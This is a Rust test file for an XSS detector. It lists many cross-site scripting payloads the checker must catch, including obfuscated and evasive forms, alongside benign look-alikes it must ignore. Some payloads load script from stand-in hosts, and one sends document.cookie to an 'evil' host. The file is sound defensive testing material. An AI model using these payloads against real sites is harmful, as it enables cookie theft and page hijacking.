//! The checker's attacks and benign look-alikes, family by family.
use super::*;

#[test]
fn attacks_match() {
    let attacks = [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js>",
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)",
        "<svg/onload=alert(1)>",
        "<body onload=alert(document.cookie)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<iframe src=//evil>",
        "<div style=\"width:expression(alert(1))\">",
        "javascript:alert(1)",
        "  JaVaScRiPt:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "\" onmouseover=\"alert(1)",
        "' autofocus onfocus=alert(1) x='",
        "\"><svg onload=alert(1)>",
        "';alert(1)//",
        "\"-prompt(1)-\"",
        "'};fetch('//evil/'+document.cookie);//",
        "<details open ontoggle=alert(1)>",
        "<meta http-equiv=\"refresh\" content=\"0;url=//evil\">",
        "<object data=\"javascript:alert(1)\">",
        "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
    ];
    let missed: Vec<_> = attacks.iter().filter(|a| check(a).is_none()).collect();
    assert!(missed.is_empty(), "missed: {missed:?}");
}

/// Each family with its benign look-alikes in [`look_alikes_do_not_match`].
#[test]
fn evasive_families_match() {
    let attacks = [
        // JavaScript escapes: legacy octal above \377, unknown escapes, NUL.
        "\\74svg o\\156load\\75alert\\501\\51\\76",
        "top.open`javas\\cript:al\\ert(1)`",
        "print \"<SCR\\0IPT>alert(\\\"XSS\\\")</SCR\\0IPT>\"",
        // Tag openers filters miss; namespaced script elements; IE behaviours.
        "<;SCRIPT SRC=\";http://ha.ckers.org/xss.js\";>;<;/SCRIPT>;",
        "<;META HTTP-EQUIV=\";refresh\"; CONTENT=\";0;url=//evil\";>;",
        "<%script>alert(1)<%/script>",
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\" src=\"//evil/1.js\"/>",
        "<?import namespace=\"t\" implementation=\"#default#time2\">",
        // End tags that break out of the page's own element.
        "</script>",
        "'\"></iframe>Hover here",
        "alert(1);</script>",
        // Attribute breakouts with attributes before the handler, or without a call.
        "\" type=image src=null onerror=KCF \"",
        " onmouseover=\"document.cookie=true;\">//x",
        "';onerror=alert;throw 1//",
        // Data URLs carrying a script, HTML imports, IE data islands, JSSS, UTF-7.
        "<a href=\"data:application/x-x509-user-cert;\nbase64\n,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">X</a",
        "<link/rel=prefetch import href=data:q;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg>",
        "<data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=",
        "<link rel=import href=//evil/x.html>",
        "<XML SRC=\"xsstest.xml\" ID=I></XML>",
        "<style type=\"text/javascript\">document.vulnerable=true;</style>",
        "<meta charset=\"x-imap4-modified-utf7\">",
        "<img src=\"mocha:document.vulnerable=true;\">",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        // CSS outside a tag, and behind escapes and comments.
        "width: expression((window.r==document.cookie)?'':alert(r=document.cookie))",
        "<link rel=stylesheet href=data:,*{x:expression(write(1))}",
        "xss:ex/*XSS*//*/*/pression(alert(\"XSS\"))'>",
        "<div style=\"behaviour: url(http://evil/x.htc);\">",
        "<x/style=-m\\0o\\0z\\0-b\\0i\\0nd\\0i\\0n\\0g\\0:\\0u\\0r\\0l\\0(\\0/\\0/e\\0v\\0i\\0l)>",
        // Tagless script.
        "eval(name)",
        "eval(a+b+c+d);",
        "(0,alert)(1)",
        "alert?.(1)",
        "alert.call(null,1)",
        "''.sub.constructor('alert(1)')()",
        "top['alert'](1)",
        "[1].find(alert)",
        "s1=''+'java'+''+'scr'+'';s2=''+'ipt'+':'+'ale'+'';s3=''+'rt'+''+'(1)'",
        "evil=/ev/.source+/al/.source,x=7[evil]",
    ];
    let missed: Vec<_> = attacks.iter().filter(|a| check(a).is_none()).collect();
    assert!(missed.is_empty(), "missed: {missed:?}");
}

#[test]
fn benign_text_does_not_match() {
    let benign = [
        "I love JavaScript: it's great",
        "<b>bold</b> and <i>italic</i>",
        "<a href=\"https://example.com/page\">link</a>",
        "x < 3 and y > 2",
        "a<b>c",
        "the script was long",
        "onload event handlers are a JS topic",
        "He said \"hello\" and left",
        "It's done; alert the team (later)",
        "<p class=\"note\">Hi</p>",
        "<3 you",
        "email me: a@b.c",
        "Use alert() sparingly",
        "\"quoted\" onwards",
    ];
    for b in benign {
        assert_eq!(check(b), None, "{b}");
    }
}

#[test]
fn look_alikes_do_not_match() {
    let benign = [
        // Escapes in paths and code.
        "C:\\x64\\bin\\new\\alert.txt",
        "printf(\"%s\\n\", name);",
        "re.compile(r'\\d+\\s*=\\s*\\w+')",
        // Markup as prose and code.
        "warning: unopened HTML tag `script`\n | /// </script>",
        "List<Object> items = new ArrayList<>();",
        "Promise<Object[]> load(Map<String, Object> opts)",
        "<li>Returns: <a class=\"type\"><Object></a> the resource</li>",
        "<xs:import namespace=\"urn:x\" schemaLocation=\"x.xsd\"/>",
        "<% if user.admin? %>Admin<% end %>",
        "He said \"yes\" and type=image was fine",
        "<input type=\"image\" src=\"/btn.png\" alt=\"Go\">",
        "<link rel=\"stylesheet\" href=\"/site.css\">",
        "<meta charset=\"utf-8\">",
        "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==\">",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=\">",
        "See RFC 2152: UTF-7 writes + as +- and ADw as base64.",
        // CSS and prose about it.
        "a regular expression (regex) matches",
        "let e = parse_expression(tokens)?;",
        "the CSS behavior: it cascades",
        ".btn { color: red; /* primary */ }",
        // Code joining strings, passing callbacks, dispatching.
        "msg = 'Hello, ' + name + '!';",
        "'TERMINATE', 'THEN', 'UNLOCK', 'UNSTRING', 'USE', 'VALIDATE',",
        "each(['concat', 'join', 'slice'], function(name) {",
        "window.addEventListener('load', function() {",
        "fetch(url).then(r => r.json()).catch(console.error)",
        "fn.call(this, x)",
        "data = new Alert(this);",
        "return this[units + 's']();",
        "O'Brien's \"alert\" level",
    ];
    for b in benign {
        assert_eq!(check(b), None, "{b}");
    }
}
